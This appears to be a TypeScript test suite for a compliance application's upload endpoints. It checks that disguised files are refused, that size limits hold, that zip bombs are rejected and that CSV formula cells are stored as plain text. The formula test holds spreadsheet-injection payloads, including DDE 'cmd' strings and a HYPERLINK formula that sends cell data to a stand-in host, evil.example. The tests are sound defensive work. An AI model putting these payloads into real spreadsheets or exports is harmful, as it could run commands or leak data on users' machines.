import { inflateRawSync, crc32 } from 'node:zlib';
import {
  contentMatchesUploadType,
  MAX_UPLOAD_BYTES,
  MEMBER_IMPORT_COLUMNS,
  type EndpointContract,
  type EndpointUpload,
  type MemberImportColumn,
  type MemberImportReport,
} from '@compliance/shared-contracts';
import { buildTestApp, type TestApp } from '../test/build';
import { signedInStaff, signInAll, type TestClient } from '../test/client';
import { byName, changeMark, errorBodyProblem, isBackOffice, SWEPT_ENDPOINTS, tablesChangedSince } from './support';
import { DISGUISED_FILES, streamedFileForm, zipBomb } from './upload-files';
import { multipartBody, MULTIPART_CONTENT_TYPE } from '../test/multipart';

// Uploads, over every contract that takes a file (its `upload`: field, types, size limit):
// content that is not what the name says, files over the limit, a zip bomb where zips are
// taken, and CSV cells that look like formulas (taken as the text they are: exports neutralise
// them, see spreadsheetCell in shared-contracts).

let t: TestApp;
/** The company owner holds every client upload's permission (SCORM packages are the owner's alone). */
let owner: TestClient;
/** The licensee admin holds the back office's (the licensee's images). */
let licenseeAdmin: TestClient;

beforeAll(async () => {
  t = await buildTestApp();
  owner = (await signInAll(t.app, { owner: ['demo', 'superadmin'] }))('owner');
  licenseeAdmin = await signedInStaff(t.app);
});
afterAll(async () => {
  await t.close();
});

type UploadEndpoint = EndpointContract & { upload: EndpointUpload };
const uploads = SWEPT_ENDPOINTS.filter((endpoint): endpoint is UploadEndpoint => endpoint.upload !== undefined);

/**
 * Uploads allowed more than the uploader's 5 MB default of docs/product.md §9, each with its reason;
 * any other upload must keep the default.
 */
const LARGER_UPLOADS: Readonly<Record<string, string>> = {
  'member-import.upload-csv': 'a file of 100,000 members is about 20 MB (docs/product.md §2/§3); the server streams it into chunks',
  'elearning.upload-package':
    'a SCORM course with narrated video is tens of MB; what the zip unpacks to is limited apart from this (PACKAGE_LIMITS)',
  'licensee.upload-course': "the licensee's SCORM courses, as elearning.upload-package",
  'licensee.upload-course-version': "the licensee's SCORM courses, as elearning.upload-package",
};

/**
 * The free-text columns of each CSV upload: any text is a valid value there, so text that looks
 * like a formula must be taken too (the other columns keep their own format checks). A new CSV
 * upload must be listed.
 */
const CSV_TEXT_COLUMNS: Readonly<Record<string, readonly string[]>> = {
  'member-import.upload-csv': [
    'firstName',
    'lastName',
    'street',
    'additionalAddress',
    'city',
    'externalCompany',
  ] satisfies MemberImportColumn[],
};

/** Who may call an upload: the licensee admin for the back office's, the owner for a client's. */
const callerOf = (endpoint: UploadEndpoint): TestClient => (isBackOffice(endpoint) ? licenseeAdmin : owner);

function sendForm(endpoint: UploadEndpoint, body: Buffer) {
  return callerOf(endpoint).post(endpoint.path, body, { headers: { 'content-type': MULTIPART_CONTENT_TYPE } });
}

const sendFile = (endpoint: UploadEndpoint, filename: string, content: Buffer) =>
  sendForm(endpoint, multipartBody([{ name: endpoint.upload.field, filename, content }]));

/** Sends a file of `size` bytes, streamed; with its Content-Length, or without (as chunked uploads come). */
async function sendStreamed(endpoint: UploadEndpoint, filename: string, size: number, withLength: boolean) {
  const form = streamedFileForm(endpoint.upload.field, filename, size, endpoint.upload.types[0] ?? 'csv');
  const response = await callerOf(endpoint).post(endpoint.path, form.stream, {
    headers: { 'content-type': MULTIPART_CONTENT_TYPE, ...(withLength ? { 'content-length': String(form.length) } : {}) },
  });
  return { response, bytesRead: form.bytesRead() };
}

it('every POST without a JSON body declares the upload it takes', () => {
  const bodiless = SWEPT_ENDPOINTS.filter((endpoint) => endpoint.method === 'POST' && !endpoint.body);
  expect(bodiless.filter((endpoint) => !endpoint.upload).map((endpoint) => endpoint.id)).toEqual([]);
  expect(uploads.length).toBeGreaterThan(0);
});

it('keeps the 5 MB default limit on every upload but the listed larger ones', () => {
  const larger = uploads.filter((endpoint) => endpoint.upload.maxBytes !== MAX_UPLOAD_BYTES).map((endpoint) => endpoint.id);
  expect(larger.sort()).toEqual(Object.keys(LARGER_UPLOADS).sort());
});

it('knows the columns of every CSV upload', () => {
  const csvUploads = uploads.filter((endpoint) => endpoint.upload.types.includes('csv')).map((endpoint) => endpoint.id);
  expect(csvUploads.sort()).toEqual(Object.keys(CSV_TEXT_COLUMNS).sort());
});

describe.each(byName(uploads))('%s', (_name, endpoint) => {
  const extension = endpoint.upload.types[0] ?? 'csv';
  const { maxBytes } = endpoint.upload;

  // A disguised file the upload takes by its content (a zip where zips are taken) is no disguise there.
  const disguised = Object.entries(DISGUISED_FILES).filter(
    ([, content]) => !endpoint.upload.types.some((type) => contentMatchesUploadType(content, type)),
  );

  it.each(disguised)(`refuses a renamed %s as .${extension} and stores nothing`, async (_kind, content) => {
    const before = await changeMark(t.db);
    const response = await sendFile(endpoint, `payroll.${extension}`, content);
    expect({ status: response.statusCode, body: response.json<unknown>() }).toEqual({
      status: 400,
      body: { error: { code: 'File.InvalidType' } },
    });
    expect(await tablesChangedSince(t.db, before)).toEqual([]);
  });

  const expectTooLarge = async (size: number, withLength: boolean) => {
    const before = await changeMark(t.db);
    const sent = await sendStreamed(endpoint, `large.${extension}`, size, withLength);
    expect({ status: sent.response.statusCode, body: sent.response.json<unknown>() }).toEqual({
      status: 413,
      body: { error: { code: 'File.TooLarge' } },
    });
    expect(await tablesChangedSince(t.db, before)).toEqual([]);
    return sent;
  };

  // One byte over: only counting the bytes as they come can tell, so this is the streamed path.
  it(`refuses a file of ${maxBytes + 1} bytes (its limit and one), sent without Content-Length, with 413 and stores nothing`, async () => {
    await expectTooLarge(maxBytes + 1, false);
  });

  it('refuses a request whose Content-Length is over the limit before reading it', async () => {
    const size = Math.max(maxBytes + 1024 * 1024, 6 * 1024 * 1024);
    const { bytesRead } = await expectTooLarge(size, true);
    expect(bytesRead).toBeLessThan(size / 2);
  });

  if (maxBytes < 6 * 1024 * 1024) {
    it('refuses a 6 MB file, sent without Content-Length, with 413 and stores nothing', async () => {
      await expectTooLarge(6 * 1024 * 1024, false);
    });
  }

  if (maxBytes > MAX_UPLOAD_BYTES && endpoint.upload.types.includes('csv')) {
    it('takes a file over the 5 MB default but within its own limit', async () => {
      // A hundred rows with one long cell each keep the row check short: the size is what is
      // tried here (a line stays under the reader's longest).
      const row = `Anna;Berg;${'x'.repeat(60_000)}\r\n`;
      const rows = Math.ceil((MAX_UPLOAD_BYTES + 1024 * 1024) / row.length);
      const content = Buffer.from(`firstName;lastName;username\r\n${row.repeat(rows)}`);
      const response = await sendFile(endpoint, `large.${extension}`, content);
      expect(response.statusCode).toBe(200);
    });
  }
});

describe('zip bombs', () => {
  const bomb = zipBomb();

  it('the sweep’s bomb is small and unpacks to a gigabyte', () => {
    expect(bomb.bytes.length).toBeLessThan(2 * 1024 * 1024);
    expect(bomb.unpackedBytes).toBeGreaterThanOrEqual(1024 ** 3);
    // Its first entry really holds what the directory says: 30-byte header, name, deflated data.
    const nameLength = bomb.bytes.readUInt16LE(26);
    const packedLength = bomb.bytes.readUInt32LE(18);
    const unpacked = inflateRawSync(bomb.bytes.subarray(30 + nameLength, 30 + nameLength + packedLength));
    expect(unpacked.length).toBe(bomb.unpackedBytes / bomb.entries);
    expect(crc32(unpacked)).toBe(bomb.bytes.readUInt32LE(14));
  });

  // Every upload that takes zips (SCORM packages) gets the bomb, by its contract.
  for (const endpoint of uploads.filter((upload) => upload.upload.types.includes('zip'))) {
    it(`${endpoint.method} ${endpoint.path} refuses it with an error code and stores nothing`, async () => {
      const before = await changeMark(t.db);
      const response = await sendFile(endpoint, 'course.zip', bomb.bytes);
      expect([400, 413]).toContain(response.statusCode);
      expect(errorBodyProblem(response)).toBeUndefined();
      expect(await tablesChangedSince(t.db, before)).toEqual([]);
    });
  }
});

/** A row every column of which is valid; `+` starts its phone numbers, as they may. */
const VALID_MEMBER_ROW: Readonly<Record<MemberImportColumn, string>> = {
  firstName: 'Anna',
  lastName: 'Berg',
  email: 'anna.berg@example.com',
  username: 'anna.berg',
  role: 'member',
  birthDate: '1990-01-02',
  phoneNumber: '+49 30 1234567',
  mobileNumber: '+49 170 1234567',
  gender: 'f',
  street: 'Hauptstraße 1',
  additionalAddress: 'Hinterhaus',
  postalCode: '10115',
  city: 'Berlin',
  country: 'DE',
  externalCompany: 'Berg GmbH',
  orgUnits: '',
  locations: '',
  password: '',
};

const quoteCell = (value: string) => (/[";,\r\n]/.test(value) ? `"${value.replace(/"/g, '""')}"` : value);

describe.each(byName(uploads.filter((endpoint) => CSV_TEXT_COLUMNS[endpoint.id])))('%s formula-like cells', (_name, endpoint) => {
  const columns = CSV_TEXT_COLUMNS[endpoint.id] ?? [];

  it.each([
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"Details")',
  ])('%s in any free-text column is taken as text: its row stays valid', async (formula) => {
    const header = MEMBER_IMPORT_COLUMNS;
    const row = (index: number, column?: string) =>
      header
        .map((name) => {
          const value =
            name === 'username' ? `anna.berg${index}` : name === 'email' ? `anna.berg${index}@example.com` : VALID_MEMBER_ROW[name];
          return quoteCell(name === column ? formula : value);
        })
        .join(';');
    const csv = [header.join(';'), row(0), ...columns.map((column, index) => row(index + 1, column))].join('\r\n');
    const response = await sendFile(endpoint, 'members.csv', Buffer.from(csv));
    expect(response.statusCode).toBe(200);
    const report = response.json() as MemberImportReport;
    expect(report.errors).toEqual([]);
    expect(report.validRows).toBe(columns.length + 1);
  });
});
